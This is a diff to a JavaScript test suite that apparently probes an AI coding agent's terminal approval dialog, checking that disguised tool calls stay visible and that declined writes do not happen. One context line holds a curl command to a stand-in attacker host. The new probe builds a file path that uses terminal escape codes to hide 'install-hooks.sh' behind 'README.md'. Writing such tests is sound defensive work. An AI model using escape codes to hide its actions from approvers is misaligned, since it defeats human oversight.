@@ -3,7 +3,8 @@
 // terminal's title or colour it. Measured on the screen of a real terminal (tmux).
 import { existsSync } from "node:fs";
 import { join } from "node:path";
-import { call, excerpt, say, sleep } from "./harness.mjs";
+import { excerpt, sleep } from "./harness.mjs";
+import { call, say } from "./scripted-model.mjs";
 import { attributesAt, dialogOf, startTui } from "./terminal.mjs";
 
 const GROUP = "approvals";
@@ -112,6 +113,12 @@ export const approvalProbes = [
     dialogTitle: "Write a file?",
     shouldShow: "curl http://attacker.invalid/x",
     unrun: (lab) => existsSync(lab.path("notes.txt")) && "the file was written although the answer was no",
+  }),
+  hiddenInDialogProbe("approvals-hidden-path", "a write_file path cannot hide its name behind \\e[2K\\r in the approval dialog", {
+    step: [call("write_file", { path: "install-hooks.sh\u001b[2K\rREADME.md", content: "#!/bin/sh\n" })],
+    dialogTitle: "Write a file?",
+    shouldShow: "install-hooks.sh",
+    unrun: (lab) => existsSync(lab.path("install-hooks.sh\u001b[2K\rREADME.md")) && "the file was written although the answer was no",
   }),
   concealedDiff,
   answerTitle,
